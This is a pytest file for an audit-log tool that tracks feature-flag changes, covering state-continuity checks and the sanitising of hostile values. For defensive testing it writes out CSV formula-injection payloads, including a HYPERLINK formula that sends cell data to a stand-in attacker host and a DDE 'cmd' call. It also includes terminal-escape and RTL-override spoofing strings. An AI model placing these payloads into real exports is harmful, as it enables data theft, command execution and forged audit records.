"""Issue 8 §5: `flagtrail changes`, state continuity, and values an attacker wrote."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine

from producers import FlagChange, Outbox, PolicyError
from producers.events import format_timestamp
from relay.canonical import GENESIS, seal
from relay.changes import csv_cell, list_changes, render_csv, render_table, visible
from relay.export import export_window
from relay.logs import open_log
from relay.outbox import open_outbox_source
from relay.relay import Relay
from tests.conftest import SteppingClock, run_cli
from tests.pseudonymised import alias

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def record(n: int, **fields: Any) -> dict[str, Any]:
    """A flag-change record as the relay seals it (fields override)."""
    stamp = format_timestamp(T0 + timedelta(minutes=n))
    base = {
        "schema_version": 1,
        "chain_id": "flag-audit",
        "event_id": f"ev-{n}",
        "recorded_at": stamp,
        "relayed_at": stamp,
        "timestamp_utc": stamp,
        "sequence": n,
        "actor": "alice@example.com",
        "approver": "bob@example.com",
        "role": "release-manager",
        "flag_key": "checkout-v2",
        "environment": "production",
        "environment_class": "production",
        "action": "update",
        "before": None,
        "after": None,
        "reason": "r",
        "change_ref": f"CHG-{n}",
        "soc2_controls": ["CC6.1", "CC6.6", "CC8.1"],
        "meta": None,
    }
    return base | fields


def write_chain(path: Path, records: Iterable[dict[str, Any]]) -> list[str]:
    """Seal ``records`` into a JSONL chain from GENESIS; returns their hashes."""
    prev, lines, hashes = GENESIS, [], []
    for rec in records:
        prev, line = seal(rec, prev)
        lines.append(line)
        hashes.append(prev)
    path.write_text("\n".join(lines) + "\n")
    return hashes


# -- state continuity --------------------------------------------------------------------------
def test_a_before_that_is_not_the_previous_after_is_a_break_naming_both(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    hashes = write_chain(
        path,
        [
            record(1, action="create", before=None, after={"enabled": False}),
            record(2, before={"enabled": False}, after={"enabled": True}),
            # someone flipped it back outside flagtrail; this change starts from there
            record(3, before={"enabled": False}, after={"enabled": True, "rollout": 50}),
        ],
    )
    listing = list_changes(path)
    assert len(listing.changes) == 3
    assert len(listing.breaks) == 1
    found = listing.breaks[0]
    assert (found.previous_sequence, found.previous_hash) == (2, hashes[1])
    assert (found.sequence, found.hash) == (3, hashes[2])
    text = found.describe()
    assert hashes[1] in text and hashes[2] in text and "sequence 2" in text


def test_first_change_in_the_window_and_consistent_history_are_not_findings(
    tmp_path: Path,
) -> None:
    path = tmp_path / "x.jsonl"
    write_chain(
        path,
        [
            # the window starts mid-history: nothing before it to compare with
            record(1, before={"rollout": 10}, after={"rollout": 20}),
            record(2, flag_key="search", before={"v": 1}, after={"v": 2}),
            record(3, environment="staging", before="anything", after={"rollout": 99}),
            record(4, before={"rollout": 20}, after={"rollout": 30}),
            record(5, action="delete", before={"rollout": 30}, after=None),
            record(6, action="create", before=None, after={"rollout": 0}),
        ],
    )
    assert list_changes(path).breaks == []


def test_rejections_and_meta_events_do_not_move_the_state(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    write_chain(
        path,
        [
            record(1, before=None, after={"v": 1}),
            record(2, action="rejected", before={"v": 1}, after={"v": 9}, meta={"status": 403}),
            record(3, action="gap_documented", flag_key="", environment="", meta={}),
            record(4, before={"v": 1}, after={"v": 2}),
        ],
    )
    listing = list_changes(path)
    assert listing.breaks == []
    assert [c["sequence"] for c in listing.changes] == [1, 4]
    assert [b["sequence"] for b in listing.blocked] == [2]
    assert dict(listing.other) == {"gap_documented": 1}


def test_a_respelled_environment_cannot_start_a_fresh_unjudged_history(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    write_chain(
        path,
        [
            record(1, before=None, after={"v": 1}),
            record(2, environment=" PRODUCTION", before={"v": 5}, after={"v": 6}),
        ],
    )
    assert [b.sequence for b in list_changes(path).breaks] == [2]


def test_values_are_compared_as_the_chain_hashes_them(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    write_chain(
        path,
        [
            record(1, before=None, after={"rollout": 1}),
            record(2, before={"rollout": 1.0}, after={"rollout": True}),
            record(3, before={"rollout": 1}, after={"rollout": 2}),
        ],
    )
    assert [b.sequence for b in list_changes(path).breaks] == [2, 3]


# -- reading --------------------------------------------------------------------------------
def test_a_bad_line_is_one_sentence_not_a_traceback(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    write_chain(path, [record(1), record(2)])
    path.write_bytes(path.read_bytes() + b'{"sequence": "7", "hash": 1}\n')
    result = run_cli("changes", str(path))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "record 3 is unreadable" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_a_missing_file_is_a_usage_error(tmp_path: Path) -> None:
    result = run_cli("changes", str(tmp_path / "nope.jsonl"))
    assert result.returncode == 2
    assert "not found" in result.stderr and "Traceback" not in result.stderr


# -- what an attacker writes -------------------------------------------------------------------
HOSTILE_ACTOR = '=HYPERLINK("http://evil.test/?x="&A1,"click")'


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    write_chain(
        path,
        [
            record(1, actor=HOSTILE_ACTOR, reason="+1+cmd|' /C calc'!A0", after=-5),
            record(2, approver="@SUM(1+1)", change_ref=" =1+1", before=-4, after={"a": 1}),
            record(3, action="rejected", reason="\t=2", meta={"message": "-2+3"}),
        ],
    )
    rows = list(csv.reader(io.StringIO(render_csv(list_changes(path)))))
    assert rows[0][0] == "kind"
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    actor = rows[0].index("actor")
    assert rows[1][actor] == "'" + HOSTILE_ACTOR  # the value itself is kept, shown as text
    assert [r[0] for r in rows[1:]] == ["change", "change", "blocked", "state_break"]


def test_csv_cell_keeps_ordinary_values() -> None:
    assert csv_cell("alice@example.com") == "alice@example.com"
    assert csv_cell({"rollout": 25}) == '{"rollout":25}'
    assert csv_cell(None) == ""
    assert csv_cell(-3) == "'-3"
    assert csv_cell("\uff1dcmd") == "'\uff1dcmd"  # the full-width equals sign too


def test_the_table_shows_hidden_and_reordering_characters(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    sneaky_flag = "pay\u202emnt-off"  # RTL override: a terminal shows it reversed
    write_chain(
        path,
        [
            record(
                1,
                flag_key=sneaky_flag,
                actor="ali\u200bce@example.com",  # a zero-width space: looks like alice
                reason="ok\x1b[2J\rforged line\u2028x",
            )
        ],
    )
    table = render_table(list_changes(path))
    for hidden in ("\u202e", "\u200b", "\x1b", "\r", "\u2028"):
        assert hidden not in table
    assert "pay\\u202emnt-off" in table
    assert "ali\\u200bce@example.com" in table
    assert "ok\\u001b[2J\\u000dforged line\\u2028x" in table


def test_visible_keeps_an_escape_typed_as_text_apart() -> None:
    assert visible("a\\u202eb") == "a\\\\u202eb"
    assert visible("a\u202eb") == "a\\u202eb"
    assert visible("zoë 🚀 — ✅") == "zoë 🚀 — ✅"


# -- through the real producer path -------------------------------------------------------------
def change(n: int, **fields: Any) -> FlagChange:
    base: dict[str, Any] = {
        "actor": "alice@example.com",
        "approver": "bob@example.com",
        "role": "release-manager",
        "flag_key": "checkout-v2",
        "environment": "production",
        "action": "update",
        "reason": "rollout",
        "change_ref": f"CHG-{n}",
    }
    return FlagChange(**(base | fields))


@pytest.fixture
def producer_log(sqlite_engine: Engine, workdir: Path) -> Path:
    """A log written through Outbox.record and the relay: changes, a blocked attempt,
    a staging change, and a production change whose before is not the truth."""
    outbox = Outbox(
        sqlite_engine,
        str(workdir / "identities.toml"),
        clock=SteppingClock(T0, timedelta(minutes=5)),
    )
    changes = [
        change(1, action="create", before=None, after={"enabled": False}),
        change(2, before={"enabled": False}, after={"enabled": True}),
        change(3, approver="alice@example.com", before={"enabled": True}, after={}),  # blocked
        change(
            4,
            environment="staging",
            role="engineer",
            actor="carol@example.com",
            approver=None,
            before=None,
            after={"enabled": True},
        ),
        change(5, before={"enabled": False}, after={"enabled": True, "rollout": 5}),  # break
    ]
    for item in changes:
        try:
            with sqlite_engine.begin() as conn:
                outbox.record(conn, item)
        except PolicyError:
            pass
    log_url = f"sqlite:///{workdir / 'log.db'}"
    relay = Relay(open_outbox_source(sqlite_engine, outbox.chain_id), open_log(log_url))
    relay.resume()
    relay.drain()
    return workdir / "log.db"


def test_changes_lists_every_field_and_blocked_attempts_apart(
    producer_log: Path, workdir: Path, rsa_keys: Path
) -> None:
    with open_log(f"sqlite:///{producer_log}") as audit_log:
        paths, _ = export_window(
            audit_log,
            date(2026, 3, 2),
            date(2026, 3, 2),
            workdir / "out",
            rsa_keys / "audit-private.pem",
        )
    result = run_cli("changes", str(paths.jsonl), "--env", "production", "--format", "json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert [c["change_ref"] for c in data["changes"]] == ["CHG-1", "CHG-2", "CHG-5"]
    first = data["changes"][1]
    assert set(first) == {
        "timestamp_utc",
        "flag_key",
        "environment",
        "action",
        "actor",
        "approver",
        "role",
        "before",
        "after",
        "reason",
        "change_ref",
        "sequence",
        "hash",
        "environment_class",
    }
    assert (first["actor"], first["approver"], first["before"], first["after"]) == (
        alias(workdir, "alice@example.com"),  # a new chain stores pseudonyms
        alias(workdir, "bob@example.com"),
        {"enabled": False},
        {"enabled": True},
    )
    assert len(first["hash"]) == 64
    (blocked,) = data["blocked"]
    assert blocked["change_ref"] == "CHG-3" and blocked["status"] == 403
    assert blocked["message"].startswith("SOC2 CC8.1:")
    (found,) = data["state_breaks"]
    assert found["previous"]["sequence"] == first["sequence"]
    assert found["change"]["sequence"] == data["changes"][2]["sequence"]
    table = run_cli("changes", str(paths.jsonl))
    assert "staging" in table.stdout and "CHG-4" in table.stdout
    assert "State continuity breaks (1)" in table.stdout


def test_gap_scan_lists_a_state_break_with_both_records(producer_log: Path) -> None:
    result = run_cli(
        "gap",
        "scan",
        "--start",
        "2026-03-02",
        "--end",
        "2026-03-02",
        env={"FLAGTRAIL_LOG_URL": f"sqlite:///{producer_log}"},
    )
    assert result.returncode == 0, result.stderr
    lines = [line for line in result.stdout.splitlines() if "state_break" in line]
    assert len(lines) == 1 and "UNDOCUMENTED" in lines[0]
    assert "starts from before=" in result.stdout and "left it at after=" in result.stdout


def test_env_matches_by_normalised_name_or_policy_class(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    write_chain(
        path,
        [
            record(1, environment="prod", before=None, after=1),
            record(2, environment="Production", before=None, after=2),
            record(3, environment="staging", environment_class="non-production", after=3),
            record(4, action="rejected", environment="live", meta={"status": 403}),
        ],
    )
    production = list_changes(path, "production")
    assert [c["sequence"] for c in production.changes] == [1, 2]
    assert [b["sequence"] for b in production.blocked] == [4]
    assert [c["sequence"] for c in list_changes(path, "PROD").changes] == [1]
    assert [c["sequence"] for c in list_changes(path, "staging").changes] == [3]


def test_the_signed_manifest_and_verify_do_not_change_with_state_breaks(
    producer_log: Path, workdir: Path, rsa_keys: Path
) -> None:
    """Continuity is judged where every change is read (changes, report, gap scan);
    export and verify derive the manifest's gaps as before, so older packages verify."""
    from relay.verify import verify_export

    with open_log(f"sqlite:///{producer_log}") as audit_log:
        paths, manifest = export_window(
            audit_log,
            date(2026, 3, 2),
            date(2026, 3, 2),
            workdir / "out",
            rsa_keys / "audit-private.pem",
        )
    assert len(list_changes(paths.jsonl).breaks) == 1
    kinds = [g["kind"] for g in manifest["undocumented_gaps"] + manifest["documented_gaps"]]
    assert "state_break" not in kinds
    assert verify_export(paths.jsonl, rsa_keys / "audit-public.pem").ok


def test_loadgen_writes_states_that_follow_each_other(sqlite_engine: Engine, workdir: Path) -> None:
    """Benchmarks and demos run on loadgen's data: a continuity break there would be a
    false finding on every record (each before is the flag's last recorded after)."""
    from flagtrail.loadgen import generate
    from relay.continuity import ContinuityChecker

    outbox = Outbox(sqlite_engine, str(workdir / "identities.toml"))
    result = generate(outbox, outbox.identities.directory(), 300, None, blocked_ratio=0.2)
    assert result.recorded > 100 and result.rejected > 0
    log_url = f"sqlite:///{workdir / 'log.db'}"
    relay = Relay(open_outbox_source(sqlite_engine, outbox.chain_id), open_log(log_url))
    relay.resume()
    relay.drain()
    checker = ContinuityChecker()
    with open_log(log_url) as audit_log:
        breaks = [b for e in audit_log.read() if (b := checker.add(json.loads(e.line)))]
    assert breaks == []
